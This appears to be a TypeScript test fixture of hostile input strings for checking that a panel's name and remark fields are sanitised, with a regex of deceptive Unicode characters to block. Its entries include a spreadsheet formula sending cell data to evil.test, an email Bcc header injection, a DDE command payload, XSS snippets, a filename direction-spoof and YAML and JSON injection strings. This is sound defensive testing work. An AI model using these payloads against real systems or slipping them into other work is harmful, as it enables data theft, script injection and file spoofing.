/** Texts that a panel may use as a name, a remark or a reason, by what they attack. */
export const HOSTILE_TEXTS: Record<string, string> = {
  'control characters': 'a\u0001\u0008\u009fb',
  NUL: 'a\u0000b',
  'line breaks': 'a\r\nBcc: thief@evil.test\r\n\r\nb',
  'line separators': 'a\u2028b\u2029c',
  'a turned direction': 'invoice\u202egpj.exe\u2066x\u2069',
  'invisible characters': 'a\u200b\ufeff\u2060b',
  'terminal commands': '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  'a formula': '=HYPERLINK("https://evil.test?"&A1,"x")',
  'a command': "+cmd|'/C calc'!A0",
  'a script': '<script>alert(1)</script><img src=x onerror=alert(2)>',
  'an attribute': '" onmouseover="alert(1)" x="',
  'Telegram HTML': '<a href="tg://user?id=1">x</a><b>&lt;',
  'Telegram Markdown': '[x](https://evil.test)*_`~|',
  YAML: '": {x: *a, <<: !!js/function "f"}\n- evil: true\n# ',
  JSON: '"},"evil":{"a":"',
  'half a character': 'a\ud800b',
  'the other half': 'a\udc00b',
  length: 'x'.repeat(100_000),
};

/** What no sink may hand on, whatever surrounds it. */
export const DECEIVING = /(?![\t\n\r])[\p{Cc}\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
